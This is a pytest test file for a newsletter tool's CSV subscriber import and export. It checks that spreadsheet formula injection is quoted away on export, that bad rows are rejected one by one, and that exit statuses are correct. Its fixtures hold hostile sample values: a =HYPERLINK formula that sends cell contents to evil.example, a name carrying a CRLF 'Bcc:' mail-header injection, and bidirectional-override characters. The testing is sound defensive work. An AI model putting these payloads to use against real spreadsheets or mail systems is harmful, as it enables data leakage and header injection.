"""CSV files as hostile input and output: export never writes a live spreadsheet formula (and
import reads its own quoting back exactly); a bad row costs only itself, the same way on
SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import delete, select, update

from newsletter.audience import csv_rows
from newsletter.audience.csv_export import export_csv
from newsletter.audience.csv_import import import_csv
from newsletter.audience.csv_rows import quote_cell, unquote_cell
from newsletter.audience.lists import create_list
from newsletter.audience.subscribers import get_subscriber
from newsletter.cli import cli
from newsletter.db import tables
from newsletter.db.engine import make_engine

HOSTILE_PEOPLE = (
    "email,name,phone,@handle\n"
    '=cmd@example.com,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",+1 555 0100,@ann\n'
    '+plus@example.com,-Minus,-2+3,"\tTabbed"\n'
    '-dash@example.com,@At,\'=already,"\rCR"\n'
    "plain@example.com,''=two quotes,'plain,x\n"
    "at@example.com,Normal Name,555,\n"
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _people(engine) -> dict[str, tuple[str, dict]]:
    with engine.connect() as conn:
        rows = conn.execute(select(tables.subscribers)).mappings().all()
    return {r["email"]: (r["name"], dict(r["attributes"])) for r in rows}


def _export(engine, slug: str = "weekly", **kw) -> str:
    out = io.StringIO()
    export_csv(engine, slug, out, **kw)
    return out.getvalue()


@pytest.fixture
def hostile(store, tmp_path: Path) -> Path:
    path = tmp_path / "hostile.csv"
    path.write_text(HOSTILE_PEOPLE, encoding="utf-8")
    report = import_csv(store, path, "weekly")
    assert (report.added, report.rejected) == (5, 0), report.problems
    return path


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'x", "x", "", "'", "a=b"],
)
def test_quote_and_unquote_are_inverse(value: str) -> None:
    quoted = quote_cell(value)
    assert unquote_cell(quoted) == value
    assert quoted[:1] not in FORMULA  # never a live formula
    assert (quoted != value) == (value.lstrip("'")[:1] in FORMULA and value != "")


def test_import_reads_the_quote_and_keeps_what_it_protects(store, hostile: Path) -> None:
    people = _people(store)
    # the header's '@handle' is the attribute name handle (names are lower_snake)
    assert people["=cmd@example.com"][1] == {"phone": "+1 555 0100", "handle": "@ann"}
    assert people["-dash@example.com"][1]["phone"] == "=already"  # the file's ' came off
    assert people["plain@example.com"] == ("'=two quotes", {"phone": "'plain", "handle": "x"})


def test_export_writes_no_live_formula_in_any_column(store, hostile: Path) -> None:
    text = _export(store)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["email", "name", "status", "joined_at", "phone", "handle"]
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA, (row, cell)
    emails = [r[0] for r in rows[1:]]
    assert "'=cmd@example.com" in emails and "'+plus@example.com" in emails
    assert "'-dash@example.com" in emails and "at@example.com" in emails
    by_email = {r[0]: r for r in rows[1:]}
    assert by_email["'-dash@example.com"][4] == "'=already"
    assert by_email["plain@example.com"][1] == "''=two quotes"
    assert by_email["plain@example.com"][4] == "'plain"  # not before a formula: as stored


def test_export_quotes_an_attribute_name_stored_by_an_older_release(store, hostile: Path) -> None:
    """Imports before lower_snake names kept a header such as '@handle' as it was: export
    still writes such a name as text."""
    s = tables.subscribers
    with store.begin() as conn:
        conn.execute(update(s).where(s.c.email == "at@example.com").values(attributes={"@x": "1"}))
    rows = list(csv.reader(io.StringIO(_export(store))))
    assert rows[0][-1] == "'@x"
    assert all(cell[:1] not in FORMULA for cell in rows[0])


def test_export_then_import_round_trips_exactly(store, hostile: Path, tmp_path: Path) -> None:
    before = _people(store)
    exported = tmp_path / "export.csv"
    exported.write_text(_export(store), encoding="utf-8")
    with store.begin() as conn:
        conn.execute(delete(tables.subscribers))  # memberships go with them
    report = import_csv(store, exported, "weekly")
    assert (report.added, report.rejected) == (5, 0), report.problems
    assert _people(store) == before
    assert get_subscriber(store, "=CMD@example.com")["email"] == "=cmd@example.com"


def test_raw_export_writes_cells_as_stored(store, hostile: Path) -> None:
    rows = list(csv.reader(io.StringIO(_export(store, raw=True))))
    assert rows[0][-1] == "handle"
    names = {r[0]: r[1] for r in rows[1:]}
    assert names["=cmd@example.com"] == '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert names["+plus@example.com"] == "-Minus"


def test_cli_export_quotes_and_raw_turns_it_off(workdir: Path, database_url: str) -> None:
    runner, env = CliRunner(), {"DATABASE_URL": database_url}
    (workdir / "in.csv").write_text("email,name\n=x@example.com,@Ann\n", encoding="utf-8")
    for args in (["lists", "create", "weekly", "--name", "W"], ["subscribers", "import"]):
        if args[0] == "subscribers":
            args = [*args, "in.csv", "--list", "weekly"]
        assert runner.invoke(cli, args, env=env).exit_code == 0
    quoted = runner.invoke(cli, ["subscribers", "export", "--list", "weekly"], env=env)
    assert quoted.stdout.splitlines()[1].startswith("'=x@example.com,'@Ann,subscribed,")
    raw = runner.invoke(cli, ["subscribers", "export", "--list", "weekly", "--raw"], env=env)
    assert raw.stdout.splitlines()[1].startswith("=x@example.com,@Ann,subscribed,")


# --- a bad row costs only itself ---------------------------------------------------------------


def _file(tmp_path: Path, rows: list[str], name: str = "people.csv") -> Path:
    path = tmp_path / name
    path.write_text("email,name,city\n" + "".join(r + "\n" for r in rows), encoding="utf-8")
    return path


def _good(i: int) -> str:
    return f"user{i}@example.com,User {i},Oslo"


def test_a_field_over_the_csv_limit_costs_only_its_row(store, tmp_path: Path) -> None:
    """Before: the pending chunk (every earlier row) was thrown away while the message said
    earlier rows were imported."""
    limit = csv.field_size_limit()
    rows = [_good(i) for i in range(50)] + [f"big@example.com,{'x' * (limit + 1)},Oslo"]
    rows += [_good(i) for i in range(50, 80)]
    report = import_csv(store, _file(tmp_path, rows), "weekly")
    assert (report.added, report.rejected) == (80, 1)
    assert report.problems[0].line == 52
    assert "longer than 131,072 characters" in report.problems[0].message
    assert get_subscriber(store, "user0@example.com") is not None
    assert get_subscriber(store, "user79@example.com") is not None
    assert get_subscriber(store, "big@example.com") is None


def test_an_unclosed_quote_names_the_lines_it_swallowed(store, tmp_path: Path) -> None:
    filler = [f"lost{i}@example.com,Lost,{'y' * 1000}" for i in range(140)]  # > 131,072 chars
    rows = [_good(1), 'open@example.com,"Ann,Oslo', *filler, _good(2)]
    report = import_csv(store, _file(tmp_path, rows), "weekly")
    assert report.rejected == 1 and report.added >= 2, report.problems
    problem = report.problems[0]
    assert problem.line == 3
    assert "an unclosed quote?" in problem.message and "lines 3-" in problem.message
    assert get_subscriber(store, "user1@example.com") and get_subscriber(store, "user2@example.com")


NUL_ROWS = [
    _good(1),
    "nul\x00mail@example.com,Nul,Oslo",
    _good(2),
    "named@example.com,Na\x00me,Oslo",
    "city@example.com,City,Os\x00lo",
    _good(3),
]


def test_a_nul_byte_in_any_cell_rejects_only_its_row(store, tmp_path: Path) -> None:
    """Before, on PostgreSQL: one driver error for the whole import, no line number."""
    report = import_csv(store, _file(tmp_path, NUL_ROWS), "weekly", chunk_size=3)
    assert (report.added, report.rejected) == (3, 3)
    assert [(p.line, p.message) for p in report.problems] == [
        (3, "column 'email' holds a NUL byte (binary data, not text)"),
        (5, "column 'name' holds a NUL byte (binary data, not text)"),
        (6, "column 'city' holds a NUL byte (binary data, not text)"),
    ]
    assert {e for e in _people(store)} == {f"user{i}@example.com" for i in (1, 2, 3)}


def test_a_name_too_long_for_the_database_rejects_only_its_row(store, tmp_path: Path) -> None:
    """Before, on PostgreSQL: 'value too long' failed the whole import (SQLite stored it)."""
    rows = [_good(1), f"long@example.com,{'N' * 201},Oslo", _good(2)]
    report = import_csv(store, _file(tmp_path, rows), "weekly")
    assert (report.added, report.rejected) == (2, 1)
    assert report.problems[0].line == 3
    assert report.problems[0].message == "the name is 201 characters; at most 200 fit"


@pytest.mark.parametrize(
    "database_url", [pytest.param("postgresql", marks=pytest.mark.postgres)], indirect=True
)
def test_a_row_the_database_refuses_is_found_and_rejected_alone(
    store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The net under the row checks: a value only the database knows is wrong (here a name
    too long, with the check switched off) costs its row, found by halving the chunk."""
    monkeypatch.setattr(csv_rows, "NAME_MAX", 10_000)
    rows = [_good(i) for i in range(40)] + [f"long@example.com,{'N' * 300},Oslo"]
    rows += [_good(i) for i in range(40, 70)]
    report = import_csv(store, _file(tmp_path, rows), "weekly", chunk_size=64)
    assert (report.added, report.rejected) == (70, 1)
    assert report.problems[0].line == 42
    assert report.problems[0].message.startswith("the database refused this row: ")
    assert "\n" not in report.problems[0].message


HOSTILE_FILE = [
    _good(1),
    "nul@example.com,N\x00,x",
    f"long@example.com,{'L' * 250},x",
    "bad-address,Bad,x",
    "=formula@example.com,'=quoted,x",
    "Ünïcödé@exämple.com,Ü,x",
    "dup@example.com,Dup,x",
    "DUP@example.com,Dup again,x",
    "too,many,fields,here",
    f"big@example.com,{'B' * (131072 + 5)},x",
    _good(2),
]


@pytest.mark.postgres
def test_sqlite_and_postgresql_import_the_same_file_the_same_way(
    tmp_path: Path, postgres_url: str
) -> None:
    path = _file(tmp_path, HOSTILE_FILE)
    results = []
    for url in (f"sqlite:///{tmp_path / 'a.db'}", postgres_url):
        engine = make_engine(url)
        try:
            create_list(engine, "weekly", "Weekly")
            report = import_csv(engine, path, "weekly", chunk_size=4)
            results.append((report.counts(), report.problems, _people(engine)))
        finally:
            engine.dispose()
    assert results[0] == results[1]
    counts, problems, people = results[0]
    assert counts["added"] == 5 and counts["duplicates"] == 1 and counts["rejected"] == 5
    assert [p.line for p in problems] == [3, 4, 5, 10, 11]
    assert people["=formula@example.com"][0] == "=quoted"


def test_problem_messages_are_one_line(store, tmp_path: Path) -> None:
    path = tmp_path / "lines.csv"
    path.write_text('email,name\n"a\nb@example.com",A\n"' + "x" * 500 + '",B\n', encoding="utf-8")
    report = import_csv(store, path, "weekly")
    assert report.rejected == 2
    for problem in report.problems:
        assert "\n" not in str(problem) and "\r" not in str(problem)
        assert len(str(problem)) < 400


# --- exit status --------------------------------------------------------------------------------


def test_an_import_where_every_row_is_rejected_exits_non_zero(
    workdir: Path, database_url: str
) -> None:
    """Before: eight addresses, all refused (reserved .test domain), and exit status 0."""
    runner, env = CliRunner(), {"DATABASE_URL": database_url}
    runner.invoke(cli, ["lists", "create", "weekly", "--name", "W"], env=env)
    (workdir / "all-bad.csv").write_text(
        "email\n" + "".join(f"user{i}@example.test\n" for i in range(8)), encoding="utf-8"
    )
    result = runner.invoke(
        cli, ["subscribers", "import", "all-bad.csv", "--list", "weekly"], env=env
    )
    assert result.exit_code == 1
    assert "rejected 8" in result.stdout
    assert result.stderr.strip().splitlines()[-1] == (
        "error: all-bad.csv: every row was rejected, nothing was imported (see the lines above)"
    )
    as_json = runner.invoke(
        cli, ["subscribers", "import", "all-bad.csv", "--list", "weekly", "--json"], env=env
    )
    assert as_json.exit_code == 1
    (workdir / "one-good.csv").write_text("email\nok@example.com\nbad@example.test\n")
    mixed = runner.invoke(
        cli, ["subscribers", "import", "one-good.csv", "--list", "weekly"], env=env
    )
    assert mixed.exit_code == 0
    (workdir / "empty.csv").write_text("email\n")
    empty = runner.invoke(cli, ["subscribers", "import", "empty.csv", "--list", "weekly"], env=env)
    assert empty.exit_code == 0  # nothing to import is not a failure


def test_an_export_file_that_cannot_be_written_is_one_line(
    workdir: Path, database_url: str
) -> None:
    runner, env = CliRunner(), {"DATABASE_URL": database_url}
    runner.invoke(cli, ["lists", "create", "weekly", "--name", "W"], env=env)
    target = workdir / "no-such-folder" / "out.csv"
    args = ["subscribers", "export", "--list", "weekly", "-o", str(target)]
    result = runner.invoke(cli, args, env=env)
    assert result.exit_code == 1
    assert result.stderr.strip().splitlines() == [
        f"error: {target}: cannot write: No such file or directory"
    ]


def test_names_are_stored_as_one_clean_line_whoever_typed_them(store, tmp_path):
    """A name goes into the To: header and the greeting of every issue: from a CSV file or the
    CLI, as from the form, it is one line without controls or bidirectional overrides."""
    from newsletter.audience.subscribers import add_subscriber, get_subscriber

    path = tmp_path / "people.csv"
    path.write_text(
        'email,name\nann@example.com,"Ann\r\nBcc: x@evil.example"\n'
        "bob@example.com,Bob\u202eevil\u202c Smith\n",
        encoding="utf-8",
    )
    report = import_csv(store, path, "weekly")
    assert report.added == 2 and report.rejected == 0
    add_subscriber(store, "zoe@example.com", "weekly", name="Zo\u00eb\x00\u2028 Lee")
    names = {e: get_subscriber(store, e)["name"] for e in ("ann@example.com", "bob@example.com",
                                                           "zoe@example.com")}  # fmt: skip
    assert names == {
        "ann@example.com": "Ann Bcc: x@evil.example",
        "bob@example.com": "Bob evil Smith",
        "zoe@example.com": "Zo\u00eb Lee",
    }
